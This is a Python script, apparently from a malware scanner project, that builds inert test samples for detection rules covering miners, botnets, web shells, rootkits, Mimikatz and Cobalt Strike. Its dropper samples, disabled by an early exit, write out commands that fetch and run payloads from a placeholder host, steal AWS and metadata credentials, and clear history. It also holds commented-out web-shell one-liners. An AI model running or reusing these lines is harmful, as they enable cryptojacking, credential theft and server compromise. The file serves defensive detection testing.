"""Build the inert positive samples of the default signature set.

Every sample is synthesised here from readable literals: a bare ELF or PE header (no code,
no sections, nothing that can run) followed by the published indicator strings a rule keys
on, or a page/script whose indicator text sits inside a comment or after an early exit.
Nothing is ever written raw: each file holds ``scanner.inert.encode(raw)`` and is named
``samples/<RULE_NAME>/<name>.inert``. Output is deterministic.

    python signatures/make_samples.py            # (re)write every sample
    python signatures/make_samples.py --check    # exit 1 if a sample is missing or stale
"""

from __future__ import annotations

import struct
import sys
from collections.abc import Callable, Iterable
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
HERE = REPO / "signatures"
sys.path.insert(0, str(REPO))

from scanner.inert import SUFFIX, encode  # noqa: E402

SAMPLES = HERE / "samples"

# Documentation-only address (RFC 5737) and a made-up wallet: nothing in a sample points anywhere real.
HOST = "198.51.100.23"
WALLET = "4A" + ("inertTestWa" * 9)[:93]  # 95 characters of the Monero base58 alphabet, owned by no one
INERT_NOTE = "inert test sample of the scanner project: carries indicators only, does nothing"


# ---------------------------------------------------------------- building blocks


def elf(*parts: bytes, e_type: int = 2) -> bytes:
    """A 64-byte ELF64 little-endian header (x86-64, no program or section headers) and ``parts``."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack("<HHIQQQIHHHHHH", e_type, 0x3E, 1, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0)
    return header + b"\0" * 64 + b"\0".join(parts) + b"\0" * 64


def pe(*parts: bytes) -> bytes:
    """A DOS stub pointing at a bare PE signature and COFF header (i386, no sections) and ``parts``."""
    dos = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x40)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 0, 0x0102)
    return dos + coff + b"\0" * 64 + b"\0".join(parts) + b"\0" * 64


def a(*texts: str) -> list[bytes]:
    """ASCII strings."""
    return [t.encode("ascii") for t in texts]


def w(*texts: str) -> list[bytes]:
    """UTF-16LE strings, as .NET and Windows resources store them."""
    return [t.encode("utf-16-le") for t in texts]


def xored(key: int, *texts: str) -> list[bytes]:
    """Strings XORed byte by byte with ``key`` (how Mirai and Azazel keep their tables)."""
    return [bytes(b ^ key for b in t.encode("ascii")) for t in texts]


def text(*lines: str) -> bytes:
    """A text file from ``lines``."""
    return ("\n".join(lines) + "\n").encode("utf-8")


def split(*parts: str) -> str:
    """``parts`` joined: text rules would match this very file if some indicators stood whole in it."""
    return "".join(parts)


def flat(groups: Iterable[list[bytes]]) -> list[bytes]:
    return [item for group in groups for item in group]


# ---------------------------------------------------------------- samples, one function per rule


def xmrig_binary() -> dict[str, bytes]:
    return {
        "xmrig-elf": elf(
            *a(
                "XMRig",
                "https://xmrig.com/",
                "donate.v2.xmrig.com:3333",
                "donate.ssl.xmrig.com:443",
                "--donate-level=N",
                "--cpu-max-threads-hint=N",
                "--rig-id=ID",
                "randomx",
                "cryptonight",
                "stratum+tcp://",
                "stratum+ssl://",
            )
        )
    }


def xmrig_config() -> dict[str, bytes]:
    return {
        "config-json": text(
            "{",
            '    "autosave": false,',
            '    "donate-level": 1,',
            '    "cpu": { "enabled": true, "huge-pages": true },',
            '    "randomx": { "init": -1, "mode": "auto" },',
            '    "pools": [',
            "        {",
            f'            "url": "{HOST}:3333",',
            f'            "user": "{WALLET}",',
            '            "pass": "x",',
            '            "rig-id": null,',
            '            "nicehash": false',
            "        }",
            "    ]",
            "}",
        )
    }


def miner_dropper() -> dict[str, bytes]:
    return {
        "miner-dropper-sh": text(
            "#!/bin/sh",
            f"exit 0  # {INERT_NOTE}",
            "ulimit -n 65535",
            "setenforce 0 2>/dev/null",
            "ufw disable",
            "echo 0 > /proc/sys/kernel/nmi_watchdog; sysctl -w kernel.nmi_watchdog=0",
            "sysctl -w vm.nr_hugepages=1280",
            "chattr -ia /etc/crontab /var/spool/cron",
            "pkill -9 -f xmrig; killall -9 minerd kworkerds",
            "ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs kill -9",
            f"curl -fsSL http://{HOST}/x/xmrig -o /tmp/.x/sysupdate",
            "chmod +x /tmp/.x/sysupdate",
            f"/tmp/.x/sysupdate -o stratum+tcp://{HOST}:3333 -u {WALLET} -p x --donate-level 1 -B",  # noqa: S108
            f"(crontab -l; echo '*/10 * * * * curl -fsSL http://{HOST}/m.sh | sh') | crontab -",
            "history -c",
        )
    }


def kinsing_bot() -> dict[str, bytes]:
    return {
        "kinsing-elf": elf(
            *a(
                "Go build ID: inert",
                "main.masscan",
                "main.backconnect",
                "main.getMinerPid",
                "main.redisBrute",
                "main.RC4",
                "main.runTask",
                "main.checkHealth",
                "main.getActiveC2CUrl",
                "-iL $INPUT --rate $RATE -p$PORT -oL $OUTPUT",
            )
        )
    }


def kinsing_miner() -> dict[str, bytes]:
    return {
        "kdevtmpfsi-elf": elf(
            *a("kdevtmpfsi", "XMRig", "xmrig.com", "--donate-level", "randomx", "stratum+tcp://", "cryptonight")
        )
    }


def kinsing_dropper() -> dict[str, bytes]:
    return {
        "d-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            'LDR="wget -q -O -"',
            "pkill -f kdevtmpfsi",
            "rm -f /tmp/kdevtmpfsi",
            f"$LDR http://{HOST}/kinsing > /etc/kinsing",
            "chmod +x /etc/kinsing",
            f"crontab -l | grep -e '{HOST}' | grep -v 'unk.sh' || "
            f"(echo '* * * * * $LDR http://{HOST}/unk.sh | sh > /dev/null 2>&1') | crontab -",
        )
    }


def mirai() -> dict[str, bytes]:
    table = (
        "/bin/busybox MIRAI",
        "MIRAI: applet not found",
        "TSource Engine Query",
        "listening tun0",
        "ncorrect",
        "/dev/watchdog",
        "/proc/net/tcp",
        "/etc/resolv.conf",
    )
    return {
        "mirai-xor-table-elf": elf(*xored(0x22, *table)),
        "mirai-plain-elf": elf(
            *a("/bin/busybox MIRAI", "MIRAI: applet not found", "/dev/watchdog", "/dev/misc/watchdog")
        ),
    }


def gafgyt() -> dict[str, bytes]:
    return {
        "gafgyt-elf": elf(
            *a(
                "PING",
                "PONG!",
                "GETLOCALIP",
                "SCANNER",
                "KILLATTK",
                "LOLNOGTFO",
                "My IP: %s",
                "Killed %d.",
                "None Killed.",
                "Failed opening raw socket.",
                "Failed setting raw headers mode.",
                'Invalid flag "%s"',
                "REPORT %s:%s:%s",
            )
        )
    }


def xorddos() -> dict[str, bytes]:
    return {
        "xorddos-elf": elf(
            *a(
                "BB2FA36AAA9541F0",
                "/etc/cron.hourly/gcc.sh",
                "/lib/libudev.so",
                "sed -i '/\\/etc\\/cron.hourly\\/gcc.sh/d' /etc/crontab",
                "*/3 * * * * root /etc/cron.hourly/gcc.sh",
                "LinuxExec_Argv2",
                "DelService_form_pid",
                "encrypt_code",
                "dec_conf",
            )
        )
    }


def xorddos_cron() -> dict[str, bytes]:
    # The published gcc.sh, behind an early exit.
    return {
        "gcc-sh": text(
            "#!/bin/sh",
            f"exit 0  # {INERT_NOTE}",
            "PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin",
            "for i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done",
            "cp /lib/libudev.so /lib/libudev.so.6",
            "/lib/libudev.so.6",
        )
    }


def tsunami() -> dict[str, bytes]:
    return {
        "kaiten-elf": elf(
            *a(
                "NICK %s\nUSER %s localhost localhost :%s",
                "NOTICE %s :Kaiten wa goraku",
                "NOTICE %s :TSUNAMI <target> <secs>",
                "NOTICE %s :PAN <target> <port> <secs>",
                "NOTICE %s :UDP <target> <port> <secs>",
                "NOTICE %s :UNKNOWN <target> <secs>",
                "NOTICE %s :Nick cannot be larger than 9 characters.",
                "NOTICE %s :Removed all spoofs",
            )
        )
    }


def china_chopper() -> dict[str, bytes]:
    # Each one-liner sits inside a server-side comment, so the page would run nothing.
    return {
        "chopper-php": text(f"<?php /* {INERT_NOTE}: @eval($_POST['pw']); */ ?>"),
        "chopper-aspx": text(
            f"<%-- {INERT_NOTE}",
            '<%@ Page Language="Jscript"%><%eval(Request.Item["pw"],"unsafe");%>',
            "--%>",
        ),
    }


def wso() -> dict[str, bytes]:
    return {
        "wso-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "define('WSO_VERSION', '2.5');",
            "$default_action = 'FilesMan';",
            "function wsoLogin() {}",
            "function wsoHeader() {}",
            "function wsoFooter() {}",
            "function wsoEx($in) {}",
            "function wsoPerms($p) {}",
            "function wsoViewSize($s) {}",
            "function actionSecInfo() {}",
            "function actionFilesMan() {}",
            "function actionConsole() {}",
            "function actionBruteforce() {}",
            "function actionSelfRemove() {}",
            "*/",
        )
    }


def c99() -> dict[str, bytes]:
    return {
        "c99-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "!C99Shell v. 1.0",
            '$c99sh_surl = "";',
            "function c99_buff_prepare() {}",
            "function c99_sess_put($data) {}",
            "function c99ftpbrutecheck($host, $port, $timeout, $login, $pass) {}",
            "function c99fsearch($d) {}",
            "function c99shexit() {}",
            "function c99sh_getupdate() {}",
            "*/",
        )
    }


def r57() -> dict[str, bytes]:
    return {
        "r57-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "r57shell - http://rst.void.ru",
            "$lang=array('ru_text1' => '', 'eng_text1' => '');",
            '$back_connect = "";',
            '$datapipe_c = "";',
            '$bind_port_c = "";',
            "*/",
        )
    }


def behinder() -> dict[str, bytes]:
    return {
        "behinder-jsp": text(
            f"<%-- {INERT_NOTE}",
            '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>',
            "<%!class U extends ClassLoader{U(ClassLoader c){super(c);}",
            "public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>",
            '<%if (request.getMethod().equals("POST")){String k="0123456789abcdef";',
            'session.putValue("u",k);Cipher c=Cipher.getInstance("AES");',
            'c.init(2,new SecretKeySpec(k.getBytes(),"AES"));',
            "String body=request.getReader().readLine();",
            "new U(this.getClass().getClassLoader()).g(c.doFinal(body.getBytes()))"
            ".newInstance().equals(pageContext);}%>",
            "--%>",
        )
    }


def godzilla() -> dict[str, bytes]:
    return {
        "godzilla-jsp": text(
            f"<%-- {INERT_NOTE}",
            '<%! String xc="3c6e0b8a9c15224a"; String pass="pass"; String md5=md5(pass+xc);',
            "class X extends ClassLoader{public X(ClassLoader z){super(z);}}",
            "public byte[] x(byte[] s,boolean m){ return s; }%>",
            '<% Object p = session.getAttribute("payload"); %>',
            "--%>",
        )
    }


def jsp_cmd() -> dict[str, bytes]:
    return {
        "cmd-jsp": text(
            f"<%-- {INERT_NOTE}",
            '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));',
            "java.io.InputStream in = p.getInputStream();",
            'out.println(new java.util.Scanner(in).useDelimiter("\\\\A").next()); %>',
            "--%>",
        )
    }


def libprocesshider() -> dict[str, bytes]:
    return {
        "libprocesshider-so": elf(
            *a(
                "readdir",
                "readdir64",
                "dlsym",
                "/proc/self/fd/%d",
                "/proc/%s/stat",
                "%d (%[^)]s",
                "Error in dlsym: %s\n",
                "/proc",
                "evil_script.py",
                "process_to_filter",
                "get_process_name",
            ),
            e_type=3,
        )
    }


def azazel() -> dict[str, bytes]:
    return {
        "azazel-so": elf(
            *xored(
                0xFE,
                "HIDE_THIS_SHELL",
                "HIDE_THIS_SHELL=please",
                "/etc/.ld.so.preload",
                "Don't scratch the walls",
                "CLEANUP_LOGS",
                "bin/unhide",
                "utmp logs cleaned up.",
                "LD_TRACE_LOADED_OBJECTS",
                "HISTFILE=/dev/null",
            ),
            e_type=3,
        )
    }


def jynx2() -> dict[str, bytes]:
    return {
        "jynx2-so": elf(
            *a(
                "XxJynx",
                "/XxJynx/reality.so",
                "Bump with shell.\n",
                "DEFAULT_PASS",
                "ld.so.preload",
                "/lib/libc.so.6",
                "drop_dup_shell",
                "backconnect",
            ),
            e_type=3,
        )
    }


def symbiote() -> dict[str, bytes]:
    hidden = (
        "apache2start",
        "apache2stop",
        "profiles.php",
        "404erro.php",
        "javaserverx64",
        "javaclientex64",
        "javanodex86",
        "sqlsearch.php",
        "certbotx64",
        "certbotx86",
    )
    return {
        "symbiote-plain-so": elf(*a(*hidden, "pcap_loop", "pcap_stats"), e_type=3),
        "symbiote-xor-so": elf(*flat([xored(0x5A, *hidden), a("pcap_loop", "pcap_stats")]), e_type=3),
    }


def diamorphine() -> dict[str, bytes]:
    return {
        "diamorphine-ko": elf(
            *a(
                "author=m0nad",
                "description=LKM rootkit",
                "license=Dual BSD/GPL",
                "name=diamorphine",
                "diamorphine",
                "diamorphine_secret",
                "hacked_getdents64",
                "hacked_getdents",
                "hacked_kill",
                "give_root",
                "module_hide",
                "module_show",
                "is_invisible",
            ),
            e_type=1,
        )
    }


def teamtnt() -> dict[str, bytes]:
    return {
        "teamtnt-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            "# TeamTNT",
            "cp /usr/bin/chattr /usr/bin/tntrecht",
            "tntrecht -ia /etc/ld.so.preload; chattr -ia /root/.ssh/authorized_keys",
            "pkill -f kdevtmpfsi; pkill -f xmrig",
            "sysctl -w vm.nr_hugepages=128",
            "cat /root/.aws/credentials > /tmp/.c 2>/dev/null",
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> /tmp/.c",
            f"curl -F 'f=@/tmp/.c' http://{HOST}/up.php",
            f"curl -s http://{HOST}/bin/xmrig -o /usr/bin/dbused",
            "history -c",
        )
    }


def zbot() -> dict[str, bytes]:
    return {
        "zbot-pe": pe(
            *a("C:\\WINDOWS\\system32\\sdra64.exe", "lowsec\\local.ds", "lowsec\\user.ds", "_AVIRA_2109"),
            *w("userinit.exe,"),
        )
    }


def mimikatz() -> dict[str, bytes]:
    return {
        "mimikatz-pe": pe(
            *w(
                "mimikatz",
                "gentilkiwi",
                "Benjamin DELPY",
                "A La Vie, A L'Amour",
                "sekurlsa",
                "lsadump",
                "privilege::debug",
                "sekurlsa::logonpasswords",
            )
        )
    }


def mimikatz_ps() -> dict[str, bytes]:
    return {
        "invoke-mimikatz-ps1": text(
            f"exit  # {INERT_NOTE}",
            "<#",
            split("function Invoke-", "Mimikatz {"),
            "    # Invoke-ReflectivePEInjection would be defined here",
            split("    $PEBytes64 = 'TVq", "QAAMAAAAEAAAA'"),
            split("    $PEBytes32 = 'TVq", "QAAMAAAAEAAAA'"),
            "    # sekurlsa::logonpasswords",
            "}",
            "#>",
        )
    }


def beacon_config() -> dict[str, bytes]:
    settings = bytes.fromhex(
        "0001 0001 0002 0000"  # BeaconType: HTTP
        "0002 0001 0002 0050"  # Port: 80
        "0003 0002 0004 0000ea60"  # SleepTime: 60000 ms
        "0004 0002 0004 00100000"  # MaxGetSize
        "0005 0001 0002 0000"  # Jitter
    )
    block = settings + bytes(4096 - len(settings))
    return {
        "beacon-config-plain": block,
        "beacon-config-x69": bytes(b ^ 0x69 for b in block),
        "beacon-config-x2e": bytes(b ^ 0x2E for b in block),
    }


def beacon_strings() -> dict[str, bytes]:
    return {
        "beacon-dll": pe(
            *a(
                "beacon.dll",
                "ReflectiveLoader",
                "%s as %s\\%s: %d",
                "could not spawn %s: %d",
                "Could not connect to pipe (%s): %d",
                "IEX (New-Object Net.Webclient).DownloadString('http://127.0.0.1:%u/')",
                "%%IMPORT%%",
                "%02d/%02d/%02d %02d:%02d:%02d",
            )
        )
    }


def beacon_stager() -> dict[str, bytes]:
    return {
        "stager-ps1": text(
            f"exit  # {INERT_NOTE}",
            "<#",
            "Set-StrictMode -Version 2",
            split("function ", "func_get_proc_address { }"),
            split("function ", "func_get_delegate_type { <# ReflectedDelegate #> }"),
            "[Byte[]]$var_code = [System.Convert]::FromBase64String('AAAA')",
            "for ($x = 0; $x -lt $var_code.Count; $x++) { $var_code[$x] = $var_code[$x] -bxor 35 }",
            "# VirtualAlloc",
            "#>",
        )
    }


def njrat() -> dict[str, bytes]:
    return {
        "njrat-pe": pe(
            *a("mscoree.dll", "_CorExeMain"),
            *w(
                "|'|'|",
                'netsh firewall add allowedprogram "',
                'netsh firewall delete allowedprogram "',
                'cmd.exe /c ping 0 -n 2 & del "',
                "SEE_MASK_NOZONECHECKS",
                "Execute ERROR",
                "Download ERROR",
                "Executed As ",
            ),
        )
    }


def eicar() -> dict[str, bytes]:
    return {"eicar": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"}


BUILDERS: dict[str, Callable[[], dict[str, bytes]]] = {
    "XMRig_Miner_Binary": xmrig_binary,
    "XMRig_Miner_Config": xmrig_config,
    "CoinMiner_Dropper_Script": miner_dropper,
    "Kinsing_Go_Bot": kinsing_bot,
    "Kinsing_kdevtmpfsi_Miner": kinsing_miner,
    "Kinsing_Dropper_Script": kinsing_dropper,
    "Mirai_Bot": mirai,
    "Gafgyt_Bashlite_Bot": gafgyt,
    "XorDDoS_Bot": xorddos,
    "XorDDoS_Cron_Script": xorddos_cron,
    "Tsunami_Kaiten_Bot": tsunami,
    "ChinaChopper_OneLiner": china_chopper,
    "WSO_WebShell": wso,
    "C99_WebShell": c99,
    "R57_WebShell": r57,
    "Behinder_JSP_WebShell": behinder,
    "Godzilla_JSP_WebShell": godzilla,
    "JSP_Cmd_WebShell": jsp_cmd,
    "LibProcessHider_Preload": libprocesshider,
    "Azazel_Preload": azazel,
    "Jynx2_Preload": jynx2,
    "Symbiote_Preload": symbiote,
    "Diamorphine_LKM": diamorphine,
    "TeamTNT_Shell_Script": teamtnt,
    "Zbot_Zeus_Trojan": zbot,
    "Mimikatz_Binary": mimikatz,
    "Mimikatz_PowerShell_Loader": mimikatz_ps,
    "CobaltStrike_Beacon_Config": beacon_config,
    "CobaltStrike_Beacon_Strings": beacon_strings,
    "CobaltStrike_PowerShell_Stager": beacon_stager,
    "NjRAT_Binary": njrat,
    "EICAR_Test_File": eicar,
}


def build() -> dict[Path, bytes]:
    """Every sample file's path and inert content."""
    out: dict[Path, bytes] = {}
    for rule, builder in BUILDERS.items():
        for name, raw in builder().items():
            out[SAMPLES / rule / f"{name}{SUFFIX}"] = encode(raw)
    return out


def main(argv: list[str]) -> int:
    wanted = build()
    if "--check" in argv:
        stale = [p for p, blob in wanted.items() if not p.is_file() or p.read_bytes() != blob]
        extra = [p for p in SAMPLES.rglob(f"*{SUFFIX}") if p not in wanted]
        for p in stale:
            sys.stderr.write(f"stale or missing: {p.relative_to(HERE)}\n")
        for p in extra:
            sys.stderr.write(f"not produced by this script: {p.relative_to(HERE)}\n")
        return 1 if stale or extra else 0
    for path, blob in wanted.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(blob)
    sys.stdout.write(f"wrote {len(wanted)} samples for {len(BUILDERS)} rules under {SAMPLES}\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
